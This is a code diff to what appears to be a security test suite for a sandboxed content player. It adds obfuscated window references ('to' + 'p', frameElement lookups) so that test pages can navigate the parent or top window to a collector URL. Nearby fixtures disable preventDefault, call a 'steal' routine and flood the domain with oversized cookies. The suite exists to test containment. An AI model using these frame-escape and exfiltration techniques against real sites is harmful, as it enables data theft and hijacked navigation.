@@ -78,6 +78,10 @@ const CHANNEL_SCRIPTS: Record<(typeof CHANNELS)[number], string> = {
 /** The player stops honest content from leaving where it is (play/follow-leads.ts); an attack takes that away first, so that the policy alone keeps it in. */
 const UNSTOPPED = 'for (const w of [window, parent]) w.Event.prototype.preventDefault = () => {}'
 
+/** The windows around the content, past what the player puts in place of `parent` and `top` for honest content (play/window-handles.ts). */
+const AROUND = '(frameElement ? frameElement.ownerDocument.defaultView : parent)'
+const TOP = "window['to' + 'p']"
+
 const TOOLS = `${UNSTOPPED}
 const add = (name, attributes) => { const e = Object.assign(document.createElement(name), attributes); document.body.append(e); return e }
 let frames = 0
@@ -199,8 +203,8 @@ ${report}
 function await_(value) { return value }`).replace('<script>', '<script type="module">'),
     'out.html': page(`${names}\nconst got = []\n${channels.join('\n')}\nsetTimeout(() => ${report}, 4000)`),
     'navigate-self.html': page(`location = ${JSON.stringify(out(collector, 'own-frame'))}`),
-    'navigate-player.html': page(`parent.location = ${JSON.stringify(out(collector, 'player-frame'))}`),
-    'navigate-top.html': page(`try { top.location = ${JSON.stringify(out(collector, 'top'))} } catch {}`),
+    'navigate-player.html': page(`${AROUND}.location = ${JSON.stringify(out(collector, 'player-frame'))}`),
+    'navigate-top.html': page(`try { ${TOP}.location = ${JSON.stringify(out(collector, 'top'))} } catch {}`),
     'port.html': page(`${PORT_SCRIPT}\n${'add("script", { src: "asks-at-once.js" }).onload = steal'}`),
     'cookies.html': page(`${ALL_COOKIES}
 for (let i = 0; i < 100; i++) write('planted' + i + '=' + 'x'.repeat(3900) + '; domain=vereda.localhost; path=/; max-age=31536000')
